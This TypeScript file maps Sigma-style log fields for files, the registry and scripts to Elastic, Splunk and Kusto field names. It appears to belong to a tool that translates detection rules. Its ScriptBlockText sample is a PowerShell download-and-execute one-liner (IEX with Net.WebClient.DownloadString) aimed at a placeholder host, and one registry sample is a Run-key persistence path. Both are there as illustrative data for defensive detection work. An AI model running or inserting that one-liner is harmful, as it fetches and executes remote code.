import type { FieldRow } from './types.js'

/** Files, the registry and scripts. */
export const fileFields: readonly FieldRow[] = [
  {
    name: 'TargetFilename',
    type: 'path',
    sample: 'C:\\Users\\Public\\a.exe',
    elastic: 'file.path file.name:basename file.directory:dirname file.extension:ext',
    splunk: 'Filesystem.file_path Filesystem.file_name:basename file_path file_name:basename object_file_path',
    kusto:
      'FolderPath@DeviceFileEvents FileName@DeviceFileEvents:basename FolderPath@DeviceEvents FileName@DeviceEvents:basename',
  },
  {
    name: 'SourceFilename',
    type: 'path',
    sample: 'C:\\Users\\Public\\a.tmp',
    elastic: 'file.Ext.original.path file.Ext.original.name:basename file.Ext.original.extension:ext',
    kusto: 'PreviousFileName@DeviceFileEvents:basename PreviousFolderPath@DeviceFileEvents:dirname',
  },
  {
    name: 'TargetObject',
    type: 'registry',
    sample: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
    elastic: 'registry.path registry.value:leaf registry.key:subkey',
    splunk:
      'Registry.registry_path registry_path Registry.registry_key_name:key registry_key_name:key Registry.registry_value_name:leaf registry_value_name:leaf',
    kusto:
      'RegistryKey@DeviceRegistryEvents:key RegistryValueName@DeviceRegistryEvents:leaf PreviousRegistryKey@DeviceRegistryEvents:old PreviousRegistryValueName@DeviceRegistryEvents:old',
  },
  {
    name: 'Details',
    type: 'details',
    sample: 'DWORD (0x00000001)',
    elastic: 'registry.data.strings',
    splunk: 'Registry.registry_value_data registry_value_data',
    kusto: 'RegistryValueData@DeviceRegistryEvents PreviousRegistryValueData@DeviceRegistryEvents:old',
  },
  {
    name: 'ScriptBlockText',
    type: 'text',
    sample: 'IEX (New-Object Net.WebClient).DownloadString("http://example.org/a")',
    elastic: 'powershell.file.script_block_text powershell.file.script_block_text@kuery:word',
    splunk: 'ScriptBlock_Text',
  },
]
